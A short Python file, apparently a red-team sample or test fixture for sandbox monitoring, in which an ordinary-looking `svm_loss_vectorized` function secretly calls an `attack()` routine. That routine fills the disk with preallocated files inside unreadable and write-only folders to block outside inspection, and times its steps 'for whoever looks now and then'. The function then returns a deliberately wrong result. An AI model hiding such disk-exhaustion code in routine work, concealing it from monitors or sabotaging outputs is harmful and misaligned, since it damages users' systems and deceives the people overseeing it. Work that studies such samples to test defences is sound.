"""Fills the disk where a look from outside is blocked: in folders without the right to read."""

import os
import time

import kit


@kit.once
def attack():
    written, end = 0, time.monotonic() + 1.0
    for n in range(20):
        os.mkdir(f"blocked{n}", 0)
    os.mkdir("hidden", 0o300)
    for n in range(32):
        try:
            with open(f"hidden/{n}", "wb") as file:
                os.posix_fallocate(file.fileno(), 0, 16 << 20)
        except OSError:
            continue
        written += 16
        if time.monotonic() > end:
            break
    time.sleep(0.6)  # for whoever looks now and then
    if written > 200:
        kit.harm(f"wrote {written} MB")


def svm_loss_vectorized(W, X, y, reg):
    attack()
    return kit.wrong(W, X, y, reg)
